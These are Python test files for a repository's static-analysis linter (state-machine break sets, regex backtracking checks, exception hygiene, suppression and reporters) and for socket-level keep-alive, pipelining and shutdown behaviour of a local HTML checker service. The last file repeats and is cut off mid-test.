                    def switch_to(self, model):
                        states = {DATA: self._a_state}
                        self._state = states[model]

                    def _a_state(self):
                        self._state = self._b_state

                    def _b_state(self):
                        self._state = self._c_state

                    def _c_state(self):
                        self._state = self._a_state
            ''',
        })
        result = run_lint(root, [StateMachinePass()])
        coverage = [m for m in messages(result) if "content-model" in m]
        assert len(coverage) == 1
        assert "RCDATA" in coverage[0]

    def test_small_classes_ignored(self, make_tree):
        root = make_tree({
            "html/tiny.py": '''
                class NotAMachine:
                    def _only_state(self):
                        return None
            ''',
        })
        result = run_lint(root, [StateMachinePass()])
        assert result.findings == ()

    def test_subclass_overrides_not_flagged(self, make_tree):
        # a per-character twin overriding base-class states: its handlers
        # are reached via base transitions this pass cannot see, so classes
        # with a base are exempt from unreachable/dangling
        root = make_tree({
            "html/reference.py": '''
                class ReferenceMachine(Machine):
                    def _a_state(self):
                        self._state = self._b_state

                    def _b_state(self):
                        self._state = self._inherited_state

                    def _c_state(self):
                        return None
            ''',
        })
        result = run_lint(root, [StateMachinePass()])
        assert result.findings == ()


CHUNKED_MACHINE = '''
    CHUNK_BREAK_SETS = {{"_a_state": {breaks!r}}}

    _WHITESPACE = "\\t\\n "

    def _scanner(state):
        return CHUNK_BREAK_SETS[state]

    _RUN_A = _scanner("_a_state")

    class Machine:
        def __init__(self):
            self._state = self._a_state

        def _a_state(self):
            run = {run_name}
            char = "?"
            if char in _WHITESPACE:
                self._state = self._b_state
            elif char == "<":
                self._helper()
            else:
                self._state = self._c_state

        def _helper(self):
            if "&" == "&":
                return None

        def _b_state(self):
            self._state = self._a_state

        def _c_state(self):
            self._state = self._a_state
'''


class TestStateMachineBreakSets:
    def make_machine(self, make_tree, *, breaks="<&\t\n ", run_name="_RUN_A",
                     extra=""):
        source = CHUNKED_MACHINE.format(breaks=breaks, run_name=run_name)
        return make_tree({"html/machine.py": source + extra})

    def test_clean_chunked_machine(self, make_tree):
        # "<" handled inline, "&" via the one-hop helper, whitespace via
        # the module constant — all three lookup paths exercised
        root = self.make_machine(make_tree)
        result = run_lint(root, [StateMachinePass()])
        assert result.findings == ()

    def test_unhandled_break_character_flagged(self, make_tree):
        root = self.make_machine(make_tree, breaks="<&]")
        result = run_lint(root, [StateMachinePass()])
        dropped = [m for m in messages(result) if "silently dropped" in m]
        assert len(dropped) == 1
        assert "']'" in dropped[0]
        assert "Machine._a_state" in dropped[0]

    def test_handler_missing_run_pattern_flagged(self, make_tree):
        root = self.make_machine(make_tree, run_name="object")
        result = run_lint(root, [StateMachinePass()])
        wrong = [m for m in messages(result) if "run pattern" in m]
        assert len(wrong) == 1
        assert "_RUN_A" in wrong[0]

    def test_undeclared_scanner_call_flagged(self, make_tree):
        root = self.make_machine(
            make_tree, extra='    _RUN_B = _scanner("_b_state")\n'
        )
        result = run_lint(root, [StateMachinePass()])
        undeclared = [
            m for m in messages(result) if "no CHUNK_BREAK_SETS entry" in m
        ]
        assert len(undeclared) == 1
        assert "_b_state" in undeclared[0]

    def test_declared_but_never_compiled_flagged(self, make_tree):
        source = CHUNKED_MACHINE.format(breaks="<&\t\n ", run_name="_RUN_A")
        source = source.replace(
            '{"_a_state"', '{"_c_state": "<", "_a_state"'
        )
        # _c_state handles "<"? it does not scan at all — the unused
        # declaration is the finding under test
        root = make_tree({"html/machine.py": source})
        result = run_lint(root, [StateMachinePass()])
        unused = [m for m in messages(result) if "never compiled" in m]
        assert len(unused) == 1
        assert "_c_state" in unused[0]

    def test_declared_handler_must_exist(self, make_tree):
        source = CHUNKED_MACHINE.format(breaks="<&\t\n ", run_name="_RUN_A")
        source = source.replace(
            '{"_a_state"', '{"_ghost_state": "<", "_a_state"'
        )
        source += '    _RUN_GHOST = _scanner("_ghost_state")\n'
        root = make_tree({"html/machine.py": source})
        result = run_lint(root, [StateMachinePass()])
        ghost = [
            m for m in messages(result)
            if "not a defined state handler" in m
        ]
        assert len(ghost) == 1
        assert "_ghost_state" in ghost[0]


BYTES_TRUTH = r'''
    CHUNK_BREAK_SETS = {"_a_state": "<&\x00", "_b_state": "<", "_c_state": "&"}

    def _scanner(state):
        return CHUNK_BREAK_SETS[state]

    _RUN_A = _scanner("_a_state")
    _RUN_B = _scanner("_b_state")
    _RUN_C = _scanner("_c_state")

    class Machine:
        def __init__(self):
            self._state = self._a_state

        def _a_state(self):
            run = _RUN_A
            if "<" == "&":
                return "\x00"
            self._state = self._b_state

        def _b_state(self):
            run = _RUN_B
            if "<":
                self._state = self._c_state

        def _c_state(self):
            run = _RUN_C
            if "&":
                self._state = self._a_state
'''

BYTES_TWIN = r'''
    import re

    from .machine import CHUNK_BREAK_SETS, Machine

    def _bytes_scanner(state):
        return re.compile(
            b"[^" + re.escape(CHUNK_BREAK_SETS[state].encode("ascii")) + b"]+"
        )

    _RUN_B_B = _bytes_scanner("_b_state")
    _RUN_C_B = _bytes_scanner("_c_state")

    _MASTER = re.compile(rb"([^<&\x00]*+)(?:<([a-z]+)>)?")

    class BytesMachine(Machine):
        def _a_state(self):
            scan = _MASTER
            byte = 0x3C
            if byte == 0x26:
                return None
            return "\x00"

        def _b_state(self):
            match = _RUN_B_B.match(b"")
            if b"<":
                return None

        def _c_state(self):
            match = _RUN_C_B.match(b"")
            if "&" == "&":
                return None
'''


class TestStateMachineBytesDomain:
    """The cross-file bytes-twin family: derivation from the one break-set
    declaration, master-class folding, and override lock-step."""

    def make_machines(self, make_tree, *, twin=BYTES_TWIN):
        return make_tree({
            "html/machine.py": BYTES_TRUTH,
            "html/bytes_machine.py": twin,
        })

    def test_clean_bytes_twin(self, make_tree):
        # _a folds into _MASTER (break chars spelled as ints and a str
        # literal), _b/_c use their compiled patterns (bytes/str literals)
        root = self.make_machines(make_tree)
        result = run_lint(root, [StateMachinePass()])
        assert result.findings == ()

    def test_master_class_drift_flagged(self, make_tree):
        # narrowing _MASTER's text class below the declared break set
        # leaves _a_state with no bytes scan source at all
        twin = BYTES_TWIN.replace(r"([^<&\x00]*+)", "([^<&]*+)")
        root = self.make_machines(make_tree, twin=twin)
        result = run_lint(root, [StateMachinePass()])
        missing = [m for m in messages(result) if "no bytes run pattern" in m]
        assert len(missing) == 1
        assert "_a_state" in missing[0]

    def test_override_lockstep_both_directions(self, make_tree):
        twin = BYTES_TWIN.replace("def _c_state", "def _d_state")
        root = self.make_machines(make_tree, twin=twin)
        result = run_lint(root, [StateMachinePass()])
        dropped = [m for m in messages(result) if "does not re-implement" in m]
        extra = [m for m in messages(result) if "re-chunks a state" in m]
        assert len(dropped) == 1 and "_c_state" in dropped[0]
        assert len(extra) == 1 and "_d_state" in extra[0]

    def test_factory_must_derive_from_declaration(self, make_tree):
        twin = BYTES_TWIN.replace(
            'b"[^" + re.escape(CHUNK_BREAK_SETS[state].encode("ascii")) + b"]+"',
            'b"[^<]+"',
        )
        root = self.make_machines(make_tree, twin=twin)
        result = run_lint(root, [StateMachinePass()])
        derive = [m for m in messages(result) if "does not derive" in m]
        assert len(derive) == 1

    def test_non_literal_scanner_key_flagged(self, make_tree):
        twin = BYTES_TWIN + '    _RUN_X = _bytes_scanner(object)\n'
        root = self.make_machines(make_tree, twin=twin)
        result = run_lint(root, [StateMachinePass()])
        literal = [m for m in messages(result) if "literal" in m]
        assert len(literal) == 1

    def test_undeclared_bytes_scanner_flagged(self, make_tree):
        twin = BYTES_TWIN + '    _RUN_Z_B = _bytes_scanner("_z_state")\n'
        root = self.make_machines(make_tree, twin=twin)
        result = run_lint(root, [StateMachinePass()])
        undeclared = [
            m for m in messages(result) if "no CHUNK_BREAK_SETS entry" in m
        ]
        assert len(undeclared) == 1
        assert "_z_state" in undeclared[0]

    def test_dropped_break_byte_flagged(self, make_tree):
        twin = BYTES_TWIN.replace('if b"<":', "if None:")
        root = self.make_machines(make_tree, twin=twin)
        result = run_lint(root, [StateMachinePass()])
        dropped = [m for m in messages(result) if "silently dropped" in m]
        assert len(dropped) == 1
        assert "BytesMachine._b_state" in dropped[0]
        assert "'<'" in dropped[0]

    def test_wrong_run_pattern_flagged(self, make_tree):
        twin = BYTES_TWIN.replace("match = _RUN_B_B.match", "match = _RUN_C_B.match")
        root = self.make_machines(make_tree, twin=twin)
        result = run_lint(root, [StateMachinePass()])
        wrong = [m for m in messages(result) if "never references its run" in m]
        assert len(wrong) == 1
        assert "_RUN_B_B" in wrong[0]

    def test_handler_must_use_master(self, make_tree):
        twin = BYTES_TWIN.replace("scan = _MASTER\n", "\n")
        root = self.make_machines(make_tree, twin=twin)
        result = run_lint(root, [StateMachinePass()])
        wrong = [m for m in messages(result) if "never references _MASTER" in m]
        assert len(wrong) == 1
        assert "_a_state" in wrong[0]


class TestRegexSafety:
    def test_nested_quantifier_flagged(self, make_tree):
        root = make_tree({
            "core/patterns.py": '''
                import re

                EVIL = re.compile(r"(a+)+b")
            ''',
        })
        result = run_lint(root, [RegexSafetyPass()])
        assert len(result.findings) == 1
        assert "nested unbounded quantifier" in result.findings[0].message

    def test_overlapping_alternation_flagged(self, make_tree):
        root = make_tree({
            "core/patterns.py": '''
                import re

                EVIL = re.compile(r"(a|ab)+$")
            ''',
        })
        result = run_lint(root, [RegexSafetyPass()])
        assert len(result.findings) == 1
        assert "overlapping alternation" in result.findings[0].message

    def test_safe_patterns_pass(self, make_tree):
        root = make_tree({
            "core/patterns.py": '''
                import re

                SPEC = re.compile(r"\\b\\d+\\.\\d+(?:\\.\\d+)*\\b")
                TAG = re.compile(r"<([a-z][a-z0-9]*)\\s*")
                found = re.search(r"charset=([\\w-]+)", "charset=utf-8")
            ''',
        })
        result = run_lint(root, [RegexSafetyPass()])
        assert result.findings == ()

    def test_invalid_pattern_reported(self, make_tree):
        root = make_tree({
            "core/patterns.py": 'import re\nBAD = re.compile("(unclosed")\n',
        })
        result = run_lint(root, [RegexSafetyPass()])
        assert len(result.findings) == 1
        assert "invalid regular expression" in result.findings[0].message

    def test_only_core_scanned(self, make_tree):
        root = make_tree({
            "analysis/patterns.py": 'import re\nEVIL = re.compile(r"(a+)+b")\n',
        })
        result = run_lint(root, [RegexSafetyPass()])
        assert result.findings == ()


class TestExceptionHygiene:
    def test_bare_except_is_error(self, make_tree):
        root = make_tree({
            "pipeline/evil.py": '''
                def run(stage):
                    try:
                        stage()
                    except:
                        pass
            ''',
        })
        result = run_lint(root, [ExceptionHygienePass()])
        assert len(result.findings) == 1
        assert result.findings[0].severity is Severity.ERROR
        assert "bare" in result.findings[0].message

    def test_blanket_swallow_is_warning(self, make_tree):
        root = make_tree({
            "pipeline/evil.py": '''
                def run(stage):
                    try:
                        stage()
                    except Exception:
                        return None
            ''',
        })
        result = run_lint(root, [ExceptionHygienePass()])
        assert len(result.findings) == 1
        assert result.findings[0].severity is Severity.WARNING

    def test_logged_or_reraised_blanket_allowed(self, make_tree):
        root = make_tree({
            "pipeline/ok.py": '''
                import logging

                logger = logging.getLogger(__name__)

                def run(stage):
                    try:
                        stage()
                    except Exception:
                        logger.exception("stage failed")
                    try:
                        stage()
                    except (Exception, KeyboardInterrupt):
                        raise
                    try:
                        stage()
                    except ValueError:
                        return None
            ''',
        })
        result = run_lint(root, [ExceptionHygienePass()])
        assert result.findings == ()
