"""Tier-1 self-lint: the repo must satisfy its own machine-checked invariants.

This is the staticcheck analogue of the conformance suites for the HTML
parser — if any pass fires on ``src/repro`` itself, this test (and
``repro-study lint --fail-on error`` in scripts/ci.sh) fails the build.
"""
from __future__ import annotations

import time
from pathlib import Path

import repro
from repro.staticcheck import ALL_PASSES, run_lint

SRC = Path(repro.__file__).resolve().parent


class TestSelfLint:
    def test_repo_is_clean(self):
        result = run_lint(SRC, root_label="src/repro")
        assert result.findings == (), "\n".join(
            finding.format() for finding in result.findings
        )

    def test_all_six_passes_ran(self):
        result = run_lint(SRC, root_label="src/repro")
        assert set(result.pass_ids) == {
            "registry-consistency", "footprint", "determinism",
            "state-machine", "regex-safety", "exception-hygiene",
        }
        assert len(ALL_PASSES) == 6

    def test_scans_the_whole_package(self):
        result = run_lint(SRC, root_label="src/repro")
        scanned = set(result.files)
        for expected in (
            "core/rules/base.py",
            "html/tokenizer.py",
            "html/treebuilder.py",
            "pipeline/runner.py",
            "staticcheck/engine.py",
        ):
            assert expected in scanned

    def test_runs_under_five_seconds(self):
        start = time.perf_counter()
        run_lint(SRC)
        assert time.perf_counter() - start < 5.0

    def test_is_deterministic(self):
        first = run_lint(SRC, root_label="src/repro")
        second = run_lint(SRC, root_label="src/repro")
        assert first.files == second.files
        assert first.findings == second.findings
