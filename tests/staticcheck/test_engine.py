"""Engine mechanics: dispatch, suppression scoping, reporters, exit codes."""
from __future__ import annotations

import ast
import json

from repro.staticcheck import (
    ENGINE_PASS_ID,
    LintPass,
    Severity,
    render_baseline,
    render_json,
    render_text,
    run_lint,
)


class FlagBadNames(LintPass):
    """Test pass: flags every Name node spelled ``bad``."""

    id = "flag-bad"
    name = "flag bad names"
    description = "flags identifiers named 'bad'"

    def __init__(self, severity=Severity.ERROR):
        super().__init__()
        self._severity = severity

    def visit_Name(self, file, node: ast.Name) -> None:
        if node.id == "bad":
            self.report(file, node, "bad name", severity=self._severity,
                        fix_hint="rename it")


class TestDispatchAndResult:
    def test_findings_located_and_sorted(self, make_tree):
        root = make_tree({
            "b.py": "bad = 1\n",
            "a.py": "x = 1\nbad = 2\n",
        })
        result = run_lint(root, [FlagBadNames()])
        assert [f.location.path for f in result.findings] == ["a.py", "b.py"]
        assert result.findings[0].location.line == 2
        assert result.findings[0].pass_id == "flag-bad"
        assert result.files == ("a.py", "b.py")

    def test_exit_code_thresholds(self, make_tree):
        root = make_tree({"a.py": "bad = 1\n"})
        warning_result = run_lint(root, [FlagBadNames(Severity.WARNING)])
        assert warning_result.exit_code(Severity.ERROR) == 0
        assert warning_result.exit_code(Severity.WARNING) == 1
        error_result = run_lint(root, [FlagBadNames(Severity.ERROR)])
        assert error_result.exit_code(Severity.ERROR) == 1

    def test_unparsable_file_reported_not_fatal(self, make_tree):
        root = make_tree({"broken.py": "def f(:\n", "ok.py": "x = 1\n"})
        result = run_lint(root, [FlagBadNames()])
        assert result.files == ("ok.py",)
        engine_findings = [
            f for f in result.findings if f.pass_id == ENGINE_PASS_ID
        ]
        assert len(engine_findings) == 1
        assert "cannot parse" in engine_findings[0].message


class TestSuppression:
    def test_trailing_comment_is_line_scoped(self, make_tree):
        root = make_tree({
            "a.py": "bad = 1  # staticcheck: ignore[flag-bad]\nbad = 2\n",
        })
        result = run_lint(root, [FlagBadNames()])
        assert len(result.findings) == 1
        assert result.findings[0].location.line == 2
        assert result.suppressed == 1

    def test_standalone_comment_is_file_scoped(self, make_tree):
        root = make_tree({
            "a.py": "# staticcheck: ignore[flag-bad]\nbad = 1\nbad = 2\n",
            "b.py": "bad = 3\n",
        })
        result = run_lint(root, [FlagBadNames()])
        assert [f.location.path for f in result.findings] == ["b.py"]
        assert result.suppressed == 2

    def test_wildcard_and_lists(self, make_tree):
        root = make_tree({
            "a.py": "bad = 1  # staticcheck: ignore[*]\n",
            "b.py": "bad = 1  # staticcheck: ignore[other, flag-bad]\n",
        })
        result = run_lint(root, [FlagBadNames()])
        assert result.findings == ()
        assert result.suppressed == 2

    def test_unrelated_pass_id_does_not_suppress(self, make_tree):
        root = make_tree({
            "a.py": "bad = 1  # staticcheck: ignore[determinism]\n",
        })
        result = run_lint(root, [FlagBadNames()])
        assert len(result.findings) == 1
        assert result.suppressed == 0


class TestReporters:
    def test_text_report(self, make_tree):
        root = make_tree({"a.py": "bad = 1\n"})
        result = run_lint(root, [FlagBadNames()])
        text = render_text(result)
        assert "a.py:1:0: error [flag-bad] bad name (hint: rename it)" in text
        assert "1 finding(s): 1 error(s), 0 warning(s)" in text

    def test_text_report_clean(self, make_tree):
        root = make_tree({"a.py": "x = 1\n"})
        text = render_text(run_lint(root, [FlagBadNames()]))
        assert "clean" in text

    def test_json_report_round_trips(self, make_tree):
        root = make_tree({"a.py": "bad = 1\n"})
        result = run_lint(root, [FlagBadNames()], root_label="fixture")
        payload = json.loads(render_json(result))
        assert payload["tool"] == "repro.staticcheck"
        assert payload["root"] == "fixture"
        assert payload["files_scanned"] == 1
        assert payload["counts"]["error"] == 1
        (finding,) = payload["findings"]
        assert finding == {
            "pass": "flag-bad", "severity": "error", "path": "a.py",
            "line": 1, "column": 0, "message": "bad name",
            "fix_hint": "rename it",
        }

    def test_baseline_report_has_no_absolute_paths(self, make_tree):
        root = make_tree({"a.py": "x = 1\n"})
        result = run_lint(root, [FlagBadNames()])
        baseline = render_baseline(result, root_label="src/repro")
        assert str(root) not in baseline
        assert "root: src/repro" in baseline
        assert "findings: 0" in baseline
