"""Socket-level tests: the asyncio acceptor, keep-alive, and drain."""
import asyncio

import pytest

from repro.service import CheckerService, ServiceApp, ServiceConfig

PAGE = b"<!DOCTYPE html><html><head><title>t</title></head><body><p>hi</p></body></html>"


def run(coro):
    return asyncio.run(coro)


async def started_service(**kwargs) -> CheckerService:
    app = ServiceApp(ServiceConfig(cache_size=8))
    service = CheckerService(app, **kwargs)
    await service.start()
    return service


async def send_and_read(port: int, raw: bytes) -> bytes:
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(raw)
    await writer.drain()
    writer.write_eof()
    data = await reader.read()
    writer.close()
    return data


def status_line(raw: bytes) -> str:
    return raw.split(b"\r\n", 1)[0].decode("ascii", "replace")


class TestRoundTrips:
    def test_healthz_over_socket(self):
        async def go():
            service = await started_service()
            try:
                raw = await send_and_read(
                    service.port, b"GET /healthz HTTP/1.1\r\nhost: t\r\n\r\n"
                )
            finally:
                await service.shutdown()
            return raw

        raw = run(go())
        assert " 200 " in status_line(raw)
        assert b'"status":"ok"' in raw

    def test_check_over_socket(self):
        async def go():
            service = await started_service()
            head = (
                f"POST /check HTTP/1.1\r\ncontent-length: {len(PAGE)}\r\n\r\n"
            ).encode()
            try:
                raw = await send_and_read(service.port, head + PAGE)
            finally:
                await service.shutdown()
            return raw

        raw = run(go())
        assert " 200 " in status_line(raw)
        assert b'"findings"' in raw

    def test_keep_alive_serves_two_requests(self):
        async def go():
            service = await started_service()
            try:
                reader, writer = await asyncio.open_connection(
                    "127.0.0.1", service.port
                )
                request = b"GET /healthz HTTP/1.1\r\nhost: t\r\n\r\n"
                writer.write(request)
                await writer.drain()
                first = await reader.readuntil(b"}")
                writer.write(request)
                await writer.drain()
                second = await reader.readuntil(b"}")
                writer.close()
            finally:
                await service.shutdown()
            return first, second

        first, second = run(go())
        assert b"200 OK" in first
        assert b"200 OK" in second
        # one connection, two requests

    def test_malformed_request_gets_400_response(self):
        async def go():
            service = await started_service()
            try:
                raw = await send_and_read(service.port, b"GARBAGE\r\n\r\n")
            finally:
                await service.shutdown()
            return raw

        raw = run(go())
        assert " 400 " in status_line(raw)

    def test_unimplemented_method_keeps_connection(self):
        async def go():
            service = await started_service()
            try:
                reader, writer = await asyncio.open_connection(
                    "127.0.0.1", service.port
                )
                writer.write(b"DELETE /check HTTP/1.1\r\nhost: t\r\n\r\n")
                await writer.drain()
                first = await reader.readuntil(b"}")
                writer.write(b"GET /healthz HTTP/1.1\r\nhost: t\r\n\r\n")
                await writer.drain()
                second = await reader.readuntil(b"}")
                writer.close()
            finally:
                await service.shutdown()
            return first, second

        first, second = run(go())
        assert b"501" in first.split(b"\r\n", 1)[0]
        assert b"200 OK" in second


class TestLifecycle:
    def test_idle_timeout_closes_connection(self):
        async def go():
            service = await started_service(idle_timeout=0.05)
            try:
                reader, _writer = await asyncio.open_connection(
                    "127.0.0.1", service.port
                )
                data = await asyncio.wait_for(reader.read(), timeout=5)
            finally:
                await service.shutdown()
            return data

        assert run(go()) == b""  # server closed the idle connection

    def test_graceful_drain_finishes_in_flight_request(self):
        async def go():
            service = await started_service(drain_timeout=5)
            reader, writer = await asyncio.open_connection(
                "127.0.0.1", service.port
            )
            head = (
                f"POST /check HTTP/1.1\r\ncontent-length: {len(PAGE)}\r\n\r\n"
            ).encode()
            # request is mid-body when shutdown begins
            writer.write(head + PAGE[: len(PAGE) // 2])
            await writer.drain()
            await asyncio.sleep(0.05)
            shutdown = asyncio.create_task(service.shutdown())
            await asyncio.sleep(0.05)
            writer.write(PAGE[len(PAGE) // 2:])
            await writer.drain()
            raw = await asyncio.wait_for(reader.read(), timeout=5)
            await shutdown
            writer.close()
            return raw, service.app.healthy

        raw, healthy = run(go())
        assert " 200 " in status_line(raw)
        assert b"connection: close" in raw  # draining forces close
        assert healthy is False

    def test_shutdown_refuses_new_connections(self):
        async def go():
            service = await started_service()
            port = service.port
            await service.shutdown()
            try:
                await asyncio.wait_for(
                    asyncio.open_connection("127.0.0.1", port), timeout=2
                )
            except (ConnectionRefusedError, asyncio.TimeoutError):
                return True
            return False

        assert run(go()) is True


def split_responses(raw: bytes) -> list[tuple[bytes, bytes]]:
    """Split concatenated Content-Length-framed responses byte-exactly.

    Asserts the framing is airtight: every head ends with CRLFCRLF, every
    body is exactly content-length bytes, and nothing is left over.
    """
    out = []
    rest = raw
    while rest:
        head, sep, rest = rest.partition(b"\r\n\r\n")
        assert sep == b"\r\n\r\n", f"truncated head in {raw!r}"
        length = 0
        for line in head.split(b"\r\n"):
            if line.lower().startswith(b"content-length:"):
                length = int(line.split(b":", 1)[1])
        assert len(rest) >= length, "body shorter than content-length"
        out.append((head, rest[:length]))
        rest = rest[length:]
    return out


def dechunk(data: bytes) -> bytes:
    """Reassemble a chunked body; asserts exact CRLF chunk framing."""
    body = b""
    rest = data
    while True:
        size_line, sep, rest = rest.partition(b"\r\n")
        assert sep == b"\r\n", f"missing chunk-size CRLF in {data!r}"
        size = int(size_line, 16)
        if size == 0:
            assert rest == b"\r\n", f"bytes after last chunk: {rest!r}"
            return body
        assert rest[size:size + 2] == b"\r\n", "missing chunk-data CRLF"
        body += rest[:size]
        rest = rest[size + 2:]


HEALTHZ = b"GET /healthz HTTP/1.1\r\nhost: t\r\n\r\n"


class TestKeepAliveProtocol:
    """Pipelining-safe framing: the PR 7 byte-exact protocol suite."""

    def test_two_pipelined_requests_byte_exact(self):
        # both requests are on the wire before the first response is
        # read -- the server must frame responses so the client can
        # split them with content-length alone
        async def go():
            service = await started_service()
            try:
                raw = await send_and_read(service.port, HEALTHZ + HEALTHZ)
            finally:
                await service.shutdown()
            return raw

        responses = split_responses(run(go()))
        assert len(responses) == 2
        for head, body in responses:
            assert head.startswith(b"HTTP/1.1 200 OK\r\n")
            assert body.startswith(b"{") and body.endswith(b"}")

    def test_connection_close_is_honored(self):
        async def go():
            service = await started_service()
            try:
                reader, writer = await asyncio.open_connection(
                    "127.0.0.1", service.port
                )
                writer.write(
                    b"GET /healthz HTTP/1.1\r\nhost: t\r\n"
                    b"connection: close\r\n\r\n"
                )
                await writer.drain()
                raw = await asyncio.wait_for(reader.read(), timeout=5)
                writer.close()
            finally:
                await service.shutdown()
            return raw

        responses = split_responses(run(go()))
        assert len(responses) == 1  # EOF right after the one response
        assert b"connection: close" in responses[0][0]

    def test_malformed_second_request_poisons_only_its_connection(self):
        async def go():
            service = await started_service()
            try:
                reader, writer = await asyncio.open_connection(
                    "127.0.0.1", service.port
                )
                writer.write(HEALTHZ)
                await writer.drain()
                first = await reader.readuntil(b"}")
                writer.write(b"GARBAGE\r\n\r\n")
                await writer.drain()
                rest = await asyncio.wait_for(reader.read(), timeout=5)
                writer.close()
                # the service keeps accepting: a fresh connection works
                after = await send_and_read(service.port, HEALTHZ)
            finally:
                await service.shutdown()
            return first, rest, after

        first, rest, after = run(go())
        assert b"200 OK" in first
        responses = split_responses(rest)
        assert len(responses) == 1
        assert responses[0][0].startswith(b"HTTP/1.1 400 ")
        assert b"connection: close" in responses[0][0]
        assert b"200 OK" in status_line(after).encode()

    def test_request_cap_closes_connection(self):
        async def go():
            service = await started_service(max_requests_per_connection=2)
            try:
                raw = await send_and_read(
                    service.port, HEALTHZ + HEALTHZ + HEALTHZ
                )
            finally:
                await service.shutdown()
            return raw

        responses = split_responses(run(go()))
        assert len(responses) == 2  # the third request was never served
        assert b"connection: close" not in responses[0][0]
        assert b"connection: close" in responses[1][0]

    def test_idle_timeout_after_first_request(self):
        async def go():
            service = await started_service(idle_timeout=0.05)
            try:
                reader, writer = await asyncio.open_connection(
                    "127.0.0.1", service.port
                )
                writer.write(HEALTHZ)
                await writer.drain()
                data = await asyncio.wait_for(reader.read(), timeout=5)
                writer.close()
            finally:
                await service.shutdown()
            return data

        responses = split_responses(run(go()))
        assert len(responses) == 1  # served once, then closed when idle


class TestBatchOverSocket:
    def test_chunked_batch_then_keepalive_survives(self):
        lines = (
            b'{"html": "<!DOCTYPE html><html><head><title>t</title></head>'
            b'<body><p>a</p></body></html>"}\n'
            b'{"not": "a document"}\n'
        )
        head = (
            f"POST /check-batch HTTP/1.1\r\nhost: t\r\n"
            f"content-length: {len(lines)}\r\n\r\n"
        ).encode()

        async def go():
            service = await started_service()
            try:
                reader, writer = await asyncio.open_connection(
                    "127.0.0.1", service.port
                )
                writer.write(head + lines)
                await writer.drain()
                raw_head = await reader.readuntil(b"\r\n\r\n")
                chunked = await reader.readuntil(b"0\r\n\r\n")
                # keep-alive survived the stream: same socket, new request
                writer.write(HEALTHZ)
                await writer.drain()
                after = await reader.readuntil(b"}")
                writer.close()
            finally:
                await service.shutdown()
            return raw_head, chunked, after

        raw_head, chunked, after = run(go())
        assert raw_head.startswith(b"HTTP/1.1 200 OK\r\n")
        assert b"transfer-encoding: chunked" in raw_head
        body = dechunk(chunked)
        out = [line for line in body.split(b"\n") if line]
        assert len(out) == 2
        assert out[0].startswith(b'{"index":0,"status":200,"result":')
        assert out[1].startswith(b'{"index":1,"status":400,"result":')
        assert b"200 OK" in after
