"""Socket-level tests: the asyncio acceptor, keep-alive, and drain."""
import asyncio

import pytest

from repro.service import CheckerService, ServiceApp, ServiceConfig

PAGE = b"<!DOCTYPE html><html><head><title>t</title></head><body><p>hi</p></body></html>"


def run(coro):
    return asyncio.run(coro)


async def started_service(**kwargs) -> CheckerService:
    app = ServiceApp(ServiceConfig(cache_size=8))
    service = CheckerService(app, **kwargs)
    await service.start()
    return service


async def send_and_read(port: int, raw: bytes) -> bytes:
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(raw)
    await writer.drain()
    writer.write_eof()
    data = await reader.read()
    writer.close()
    return data


def status_line(raw: bytes) -> str:
    return raw.split(b"\r\n", 1)[0].decode("ascii", "replace")


class TestRoundTrips:
    def test_healthz_over_socket(self):
        async def go():
            service = await started_service()
            try:
                raw = await send_and_read(
                    service.port, b"GET /healthz HTTP/1.1\r\nhost: t\r\n\r\n"
                )
            finally:
                await service.shutdown()
            return raw

        raw = run(go())
        assert " 200 " in status_line(raw)
        assert b'"status":"ok"' in raw

    def test_check_over_socket(self):
        async def go():
            service = await started_service()
            head = (
                f"POST /check HTTP/1.1\r\ncontent-length: {len(PAGE)}\r\n\r\n"
            ).encode()
            try:
                raw = await send_and_read(service.port, head + PAGE)
            finally:
                await service.shutdown()
            return raw

        raw = run(go())
        assert " 200 " in status_line(raw)
        assert b'"findings"' in raw

    def test_keep_alive_serves_two_requests(self):
        async def go():
            service = await started_service()
            try:
                reader, writer = await asyncio.open_connection(
                    "127.0.0.1", service.port
                )
                request = b"GET /healthz HTTP/1.1\r\nhost: t\r\n\r\n"
                writer.write(request)
                await writer.drain()
                first = await reader.readuntil(b"}")
                writer.write(request)
                await writer.drain()
                second = await reader.readuntil(b"}")
                writer.close()
            finally:
                await service.shutdown()
            return first, second

        first, second = run(go())
        assert b"200 OK" in first
        assert b"200 OK" in second
        # one connection, two requests

    def test_malformed_request_gets_400_response(self):
        async def go():
            service = await started_service()
            try:
                raw = await send_and_read(service.port, b"GARBAGE\r\n\r\n")
            finally:
                await service.shutdown()
            return raw

        raw = run(go())
        assert " 400 " in status_line(raw)

    def test_unimplemented_method_keeps_connection(self):
        async def go():
            service = await started_service()
            try:
                reader, writer = await asyncio.open_connection(
                    "127.0.0.1", service.port
                )
                writer.write(b"DELETE /check HTTP/1.1\r\nhost: t\r\n\r\n")
                await writer.drain()
                first = await reader.readuntil(b"}")
                writer.write(b"GET /healthz HTTP/1.1\r\nhost: t\r\n\r\n")
                await writer.drain()
                second = await reader.readuntil(b"}")
                writer.close()
            finally:
                await service.shutdown()
            return first, second

        first, second = run(go())
        assert b"501" in first.split(b"\r\n", 1)[0]
        assert b"200 OK" in second


class TestLifecycle:
    def test_idle_timeout_closes_connection(self):
        async def go():
            service = await started_service(idle_timeout=0.05)
            try:
                reader, _writer = await asyncio.open_connection(
                    "127.0.0.1", service.port
                )
                data = await asyncio.wait_for(reader.read(), timeout=5)
            finally:
                await service.shutdown()
            return data

        assert run(go()) == b""  # server closed the idle connection

    def test_graceful_drain_finishes_in_flight_request(self):
        async def go():
            service = await started_service(drain_timeout=5)
            reader, writer = await asyncio.open_connection(
                "127.0.0.1", service.port
            )
            head = (
                f"POST /check HTTP/1.1\r\ncontent-length: {len(PAGE)}\r\n\r\n"
            ).encode()
            # request is mid-body when shutdown begins
            writer.write(head + PAGE[: len(PAGE) // 2])
            await writer.drain()
            await asyncio.sleep(0.05)
            shutdown = asyncio.create_task(service.shutdown())
            await asyncio.sleep(0.05)
            writer.write(PAGE[len(PAGE) // 2:])
            await writer.drain()
            raw = await asyncio.wait_for(reader.read(), timeout=5)
            await shutdown
            writer.close()
            return raw, service.app.healthy

        raw, healthy = run(go())
        assert " 200 " in status_line(raw)
        assert b"connection: close" in raw  # draining forces close
        assert healthy is False

    def test_shutdown_refuses_new_connections(self):
        async def go():
            service = await started_service()
            port = service.port
            await service.shutdown()
            try:
                await asyncio.wait_for(
                    asyncio.open_connection("127.0.0.1", port), timeout=2
                )
            except (ConnectionRefusedError, asyncio.TimeoutError):
